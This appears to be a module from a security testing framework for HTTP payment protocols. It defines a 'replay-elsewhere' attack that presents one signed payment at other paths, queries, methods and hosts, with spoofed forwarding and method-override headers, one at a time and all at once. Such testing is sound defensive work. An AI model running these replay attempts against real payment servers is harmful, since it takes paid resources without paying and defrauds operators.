"""One payment, for one page, presented at another: another path, query, method, host, or with another word of what it is for.

An `exact` payment names a payee and an amount, not a page; every page of the same price could take it. First at the page
it was made for and then elsewhere, and in all places at once; naming the one page, the other, or none.
"""

from collections.abc import Iterator
from functools import partial

from core import pay
from core.attack import Attack, Need, Outcome, Try
from core.habits import HABITS, Habit
from core.payments import Presentation, Wallet
from core.scene import Scene
from core.target import Way

AT_ONCE = 4
"""Presentations in each of the places, when in all at once."""


def places(scene: Scene) -> dict[str, dict]:
    """Where else a payment could be good, by name."""
    target = scene.target
    other = target.other_paths[0] if target.other_paths else target.path
    found: dict[str, dict] = {f"at {path.decode()}": {"path": path} for path in target.other_paths}
    for query in (b"", b"page=2", b"page=2&page=3", b"%61=1", b"x" * 2000):
        found[f"with the query {query[:12].decode()}"] = {"path": target.path + b"?" + query}
    for method in (b"HEAD", b"POST", b"PUT", b"PATCH", b"DELETE", b"OPTIONS", b"PROPFIND", b"QUERY", b"get"):
        found[f"by {method.decode()}"] = {"method": method}
        found[f"by {method.decode()} at another page"] = {"method": method, "path": other}
    for host in (b"other.example", b"localhost", b"127.0.0.1", b"[::1]", target.host.upper() + b".", b"x." + target.host):
        found[f"of the host {host.decode()}"] = {"host": host}
    if target.upfront_path:
        found["at a page that is settled first"] = {"path": target.upfront_path}
    for headers in (
        ((b"X-Forwarded-Host", b"other.example"),), ((b"X-Original-URL", other),), ((b"X-HTTP-Method-Override", b"POST"),),
        ((b"Forwarded", b"host=other.example"),), ((b"Authorization", b"Basic eDp5"),), ((b"Accept-Language", b"pt"),),
    ):  # fmt: skip
        found[f"with {headers[0][0].decode()}"] = {"headers": headers}
    return found


def tries(scene: Scene) -> Iterator[Try]:
    found = places(scene)
    for habit in HABITS:
        for name, place in found.items():
            for says in ("nothing", "the first page", "the other page"):
                run = partial(_in_turn, Wallet(scene), habit, place, says)
                yield Try(f"{name}, naming {says}, {habit.value}", run, (Need.PAYMENT, *habit.needs))
        for way in (Way.HTTP11, Way.H2C):
            run = partial(_everywhere, Wallet(scene), habit, way, list(found.values()))
            yield Try(f"everywhere at once by {way.value}, {habit.value}", run,
                      (Need.PAYMENT, *habit.needs, *scene.target.needs(way)))  # fmt: skip


async def _in_turn(wallet: Wallet, habit: Habit, place: dict, says: str) -> Outcome:
    habit.of(wallet)
    payment = wallet.pay()
    resource = wallet.scene.offer.required.get("resource")
    if says != "nothing" and resource:
        url = resource["url"]
        path = wallet.scene.target.path
        other = url.replace(path.decode(), place.get("path", path).decode())
        payment["resource"] = resource | {"url": other if says == "the other page" else url}
    value = pay.encode(payment)
    await wallet.present(value)
    await wallet.present(value, **place)
    await wallet.present(value)
    await wallet.present(value, **place)
    return await wallet.verdict()


async def _everywhere(wallet: Wallet, habit: Habit, way: Way, found: list[dict]) -> Outcome:
    habit.of(wallet)
    value = pay.encode(wallet.pay())
    await wallet.all_at_once([Presentation(value, way=way, **place) for place in found])
    return await wallet.verdict()


ATTACK = Attack("replay-elsewhere", 2, "one payment, for another page, host or method", tries, origins=frozenset({"market"}))
